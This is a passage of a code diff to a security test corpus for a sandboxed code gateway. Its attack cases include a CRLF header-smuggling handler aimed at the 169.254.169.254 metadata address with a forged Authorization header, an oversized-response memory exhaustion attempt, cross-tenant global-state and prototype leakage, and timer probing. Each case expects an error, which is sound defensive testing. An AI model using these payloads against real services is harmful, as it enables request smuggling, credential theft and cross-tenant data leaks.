     class: 'header-smuggling',
     origin: 'corpus',
-    tries: 'Override credential-bearing and routing headers (Authorization, Host, Cookie, X-Forwarded-For) and inject CR/LF into a header value to smuggle a second request.',
+    tries:
+      'Override credential-bearing and routing headers (Authorization, Host, Cookie, X-Forwarded-For) and inject CR/LF into a header value to smuggle a second request.',
     reference: 'CWE-113 (CRLF injection); undici CVE-2022-31150 / CVE-2022-31151 (CRLF and header handling)',
     handler: String.raw`async function handler(ctx, args) { return ctx.http.fetch('https://api.example.com/json', { headers: { 'X-Note': 'a\r\nHost: 169.254.169.254', Host: '169.254.169.254', Authorization: 'Bearer attacker' } }); }`,
     expected: { outcome: 'error', codes: ['GW_ERR_BRIDGE_BAD_REQUEST'] },
@@ -718,7 +769,8 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'exfil-response-too-large',
     class: 'resource-abuse',
     origin: 'corpus',
-    tries: 'Ask the allow-listed API for a very large body to exhaust host memory while it is buffered outside the isolate (not counted against memoryLimit).',
+    tries:
+      'Ask the allow-listed API for a very large body to exhaust host memory while it is buffered outside the isolate (not counted against memoryLimit).',
     reference: 'Extism manifest memory.max_http_response_bytes',
     handler: String.raw`async function handler(ctx, args) { return ctx.http.fetch('https://api.example.com/big'); }`,
     expected: { outcome: 'error', codes: ['GW_ERR_BRIDGE_RESPONSE_TOO_LARGE'] },
@@ -727,8 +779,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'cross-call-global-state',
     class: 'cross-user',
     origin: 'corpus',
-    tries: 'Run twice in the same worker: the first run stashes data in globals and intrinsics; the second run reports anything it can still see from the first.',
-    reference: 'Cloudflare Workers docs (global state persists across requests in one isolate); RudderStack rudder-transformer ivmCache/contextReset.js (fresh context per execution)',
+    tries:
+      'Run twice in the same worker: the first run stashes data in globals and intrinsics; the second run reports anything it can still see from the first.',
+    reference:
+      'Cloudflare Workers docs (global state persists across requests in one isolate); RudderStack rudder-transformer ivmCache/contextReset.js (fresh context per execution)',
     handler: String.raw`async function handler(ctx, args) {
     const seen = { stash: globalThis.__stash === undefined ? null : String(globalThis.__stash), proto: Object.prototype.__tenantLeak === undefined ? null : String(Object.prototype.__tenantLeak) };
     globalThis.__stash = 'tenant-A-data-run-' + args.run;
@@ -742,8 +796,10 @@ export const CORPUS_CASES: AttackCase[] = [
     id: 'side-channel-timers',
     class: 'isolate-escape',
     origin: 'corpus',
-    tries: 'Inventory high-resolution timer sources usable for Spectre-style or cross-tenant timing attacks (SharedArrayBuffer + Atomics counter, performance.now, Date.now granularity). Informational: result shows what the isolate exposes.',
-    reference: 'Cloudflare Workers security model (no precise timers, no concurrency); SES challenge (taming Date); "Fantastic Timers" (Schwarz et al.)',
+    tries:
+      'Inventory high-resolution timer sources usable for Spectre-style or cross-tenant timing attacks (SharedArrayBuffer + Atomics counter, performance.now, Date.now granularity). Informational: result shows what the isolate exposes.',
+    reference:
+      'Cloudflare Workers security model (no precise timers, no concurrency); SES challenge (taming Date); "Fantastic Timers" (Schwarz et al.)',
     handler: String.raw`async function handler(ctx, args) {
     const t = [];
     for (let i = 0; i < 5; i++) t.push(Date.now());
